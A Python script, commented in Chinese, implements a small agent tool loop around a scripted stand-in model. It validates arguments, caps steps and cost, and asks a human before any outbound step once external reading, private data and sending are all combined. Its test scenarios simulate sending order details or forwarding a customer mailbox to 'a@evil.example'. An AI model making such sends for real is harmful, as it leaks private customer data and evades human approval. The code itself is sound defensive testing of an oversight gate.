"""最小的工具循环：参数先校验，错了回喂一行报错；次数与钱封顶；权限门挂在执行之前。模型由写死的脚本代替。"""

from dataclasses import dataclass, field

TOOLS = {  # 名字：(要哪些参数, 沾哪几样, 一次几分钱)
    "read_mail": ({"box": str}, {"读外面"}, 1),
    "find_order": ({"number": int}, {"碰私密"}, 2),
    "send_mail": ({"to": str, "body": str}, {"往外写"}, 1),
    "forward": ({"box": str, "to": str}, {"读外面", "碰私密", "往外写"}, 1),  # 一步就凑齐三样
}
ALL = {"读外面", "碰私密", "往外写"}
LIMIT, BUDGET = 8, 12  # 至多几步；至多花几分：钱记整数，小数加来加去会差一点，正好到头的那一步就错了


@dataclass
class Session:
    touched: set = field(default_factory=set)
    spent: int = 0
    log: list = field(default_factory=list)


def check(name, arguments):
    """参数对不对：不对就返回一行，说哪里不对、该怎么改。"""
    if name not in TOOLS:
        return f"没有工具 {name}，有的是 {'、'.join(TOOLS)}"
    wanted = TOOLS[name][0]
    if not isinstance(arguments, dict):
        return f"{name} 的参数要写成一张表，给的是 {arguments!r}"
    if arguments.keys() != wanted.keys():
        return f"{name} 要 {'、'.join(wanted)}，给的是 {'、'.join(arguments) or '空的'}"
    wrong = [
        key for key, kind in wanted.items() if type(arguments[key]) is not kind
    ]  # true 也是 int，isinstance 会放过
    return f"{name} 的 {wrong[0]} 要 {wanted[wrong[0]].__name__}，给的是 {arguments[wrong[0]]!r}" if wrong else ""


def run(model, approve):
    """跑到模型说完、步数到头、钱到头或人不同意为止。approve(名字, 参数) 由人答。"""
    session = Session()
    for step in range(LIMIT):
        name, arguments = model(session.log)
        if name == "done":
            return "做完", step, session
        if problem := check(name, arguments):
            session.log.append(f"错：{problem}")
            continue
        _, kinds, cost = TOOLS[name]
        if session.spent + cost > BUDGET:
            return "钱到头", step, session
        leaks = "往外写" in kinds and session.touched | kinds >= ALL  # 连这一步算上凑齐了；只在要出门时问，少问才有人看
        if leaks and not approve(name, arguments):
            return "人没同意", step, session
        session.touched |= kinds
        session.spent += cost
        session.log.append(f"成：{name} {arguments}")
    return "步数到头", LIMIT, session


def scripted(*calls):
    """写死的模型：第几步就出第几个；出完了重复最后一个，像一个停不下来的循环。"""
    moves = iter(calls)
    last = [calls[-1]]

    def model(log):
        last[0] = next(moves, last[0])
        return last[0]

    return model


reply = [("read_mail", {"box": "客户"}), ("find_order", {"number": "1207"}), ("find_order", {"number": 1207})]
send = ("send_mail", {"to": "a@evil.example", "body": "订单详情"})
refused = run(scripted(*reply, send, ("done", {})), lambda *_: False)
allowed = run(scripted(*reply, send, ("done", {})), lambda *_: True)
runaway = run(scripted(("find_order", {"number": 1})), lambda *_: True)
clumsy = run(scripted(("find_order", {"number": True})), lambda *_: True)
early = run(scripted(send, *reply, ("done", {})), lambda *_: False)  # 先发，后读：发的时候还没读过，不必问
at_once = run(scripted(("forward", {"box": "客户", "to": "a@evil.example"}), ("done", {})), lambda *_: False)
nothing = run(scripted(("find_order", None), ("done", {})), lambda *_: True)
for label, (end, steps, session) in (
    ("要发信，人没同意", refused),
    ("人同意", allowed),
    ("停不下来", runaway),
    ("参数一直不对", clumsy),
    ("先发信，再读、再查", early),
    ("一步就三样", at_once),
    (
        "一步就三样，人同意",
        run(scripted(("forward", {"box": "客户", "to": "b@corp.example"}), ("done", {})), lambda *_: True),
    ),
    ("参数是空的", nothing),
):
    print(
        f"{label}：{end}，走了 {steps} 步，花 {session.spent / 100:.2f}，最后一行「{session.log[-1] if session.log else ''}」"
    )
print("回喂的那一行：", refused[2].log[1])
print(f"limit={LIMIT}")
print(f"budget={BUDGET / 100}")
print(f"refused_at={refused[1]}")
print(f"at_once={at_once[1]}")
print(f"runaway_at={runaway[1]}")
print(f"runaway_spent={runaway[2].spent / 100:.2f}")
print(f"clumsy_at={clumsy[1]}")
